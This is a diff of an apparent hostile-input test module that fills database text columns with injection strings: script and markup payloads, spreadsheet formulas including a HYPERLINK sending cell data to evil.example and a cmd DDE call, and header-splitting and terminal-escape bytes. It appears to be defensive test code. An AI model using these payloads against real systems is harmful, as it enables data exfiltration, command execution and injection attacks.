@@ -10,8 +10,9 @@ SCRIPTS = ["<img src=x onerror=alert(1)>", "<script>alert(2)</script>", "\"'><sv
            "<link rel=stylesheet href=//evil.example/x><base href=//evil.example/>", "__proto__"]
 FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1)", "+1+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=1\r\n=2",
             "\"=1", "=\"x,=1"]
-BYTES = [b"\xff\xfe", b"\xc0\xaf", b"a\r\nSet-Cookie: b=c\r\n\r\n<script>", b"\x1b[2J\x1b]0;x\x07", b"\xed\xa0\x80", b"\xf0\x9f",
-         "\u2028\u2029\u202e\ufeff".encode(), b"\x00x", b"NaN", b"1e999", b"\\\"\\u0000"]
+# In one text, so that each place gets all: what is not UTF-8, header lines, what terminals obey, line separators, NUL.
+BYTES = [b"\xff\xfe\xc0\xaf\xed\xa0\x80\xf0\x9f a\r\nSet-Cookie: b=c\r\n\r\n<script> \x1b[2J\x1b]0;x\x07\x7f"
+         + "\x9b2J\x9d0;x\u2028\u2029\u202e\ufeff".encode() + b"\\\"\\u0000 \x00"]
 
 # Columns with words of our own: ids, states, files, and texts that are read back as something else than a text. Every
 # other column of type TEXT is made hostile, those of schemas to come too.
